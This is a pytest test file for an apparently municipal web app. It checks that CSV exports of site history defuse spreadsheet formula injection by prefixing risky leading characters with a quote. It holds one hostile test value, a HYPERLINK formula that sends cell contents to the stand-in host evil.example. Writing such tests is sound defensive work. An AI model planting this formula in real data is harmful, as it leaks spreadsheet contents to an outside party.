"""
Mallory, a partner editor, writes a formula as a headline; Alice exports the site history
to CSV and opens it in a spreadsheet. The formula must arrive as text.
"""

import csv
import io

from kommun.core.spreadsheets import defuse

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'


def exported_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_headline_is_exported_as_text(client, alice, make_notice):
    make_notice(headline=FORMULA)
    client.force_login(alice)
    rows = exported_rows(client, "/admin/reports/site-history/?export=csv")
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_every_formula_start_is_defused_and_ordinary_text_is_kept():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert defuse(f"{start}1+1") == f"'{start}1+1"
    assert defuse("Vattenläcka på Storgatan") == "Vattenläcka på Storgatan"
    assert defuse(42) == 42
